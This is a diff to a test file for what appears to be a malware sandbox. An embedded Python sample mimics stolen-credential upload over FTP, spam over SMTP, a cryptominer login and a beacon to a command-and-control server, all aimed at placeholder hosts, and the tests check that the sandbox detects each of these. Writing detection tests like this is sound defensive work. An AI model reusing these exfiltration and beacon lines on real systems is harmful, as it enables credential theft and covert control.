@@ -110,6 +110,12 @@ try:
   m.sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
   m.quit()
 except Exception as e: print('smtp:', e)
+import ftplib, io
+try:
+  f = ftplib.FTP('ftp.example.test', 'ops', 'ftp-pw', timeout=5)
+  f.storbinary('STOR PW_devbox.txt', io.BytesIO(b'chrome: admin / letmein'))
+  f.quit()
+except Exception as e: print('ftp:', e)
 s.sendall(b'{\\"id\\":1,\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"4AbC\\",\\"pass\\":\\"x\\",\\"agent\\":\\"XMRig/6.21.0\\"}}\\n')
 s.close()
 print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', timeout=5).status)
@@ -154,6 +160,11 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.ok((mail?.decrypted?.bytes ?? 0) > 0, 'what followed STARTTLS was read in the clear');
     assert.match(r.findings.find((f) => f.rule === 'ST-C2-016')?.output ?? '', /from=promo@shop\.example\.test to=victim@example\.test recipients=1 subject=You won .*process=python3\)$/);
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-003')?.output ?? '', /^Mail account login \(user=logs@mail\.example\.test password=Hunter2! mechanism=PLAIN starttls=true .*server=smtp\.example\.test process=python3 /);
+    // an FTP upload: the login and file kept by the FTP server, the file's bytes caught on the data connection
+    const upload = r.sessions?.find((c) => c.protocol === 'ftp');
+    assert.deepEqual(upload && [upload.domain, upload.port, upload.ftp], ['ftp.example.test', 21, { user: 'ops', password: 'ftp-pw', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(r.sessions));
+    assert.ok(r.sessions?.some((c) => c.domain === 'ftp.example.test' && c.protocol === 'other' && c.preview === 'chrome: admin / letmein'), JSON.stringify(r.sessions));
+    assert.match(r.findings.find((f) => f.rule === 'ST-EXF-004')?.output ?? '', /^FTP upload \(files=PW_devbox\.txt uploads=1 user=ops password=ftp-pw server=ftp\.example\.test .*process=python3 /);
     const checked = tls('checked.example.test');
     assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
@@ -167,7 +178,7 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.equal(replayed.code, 0, replayed.stderr);
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
-    assert.match(html, /Connections caught in the sandbox \(7\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(9\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
     assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
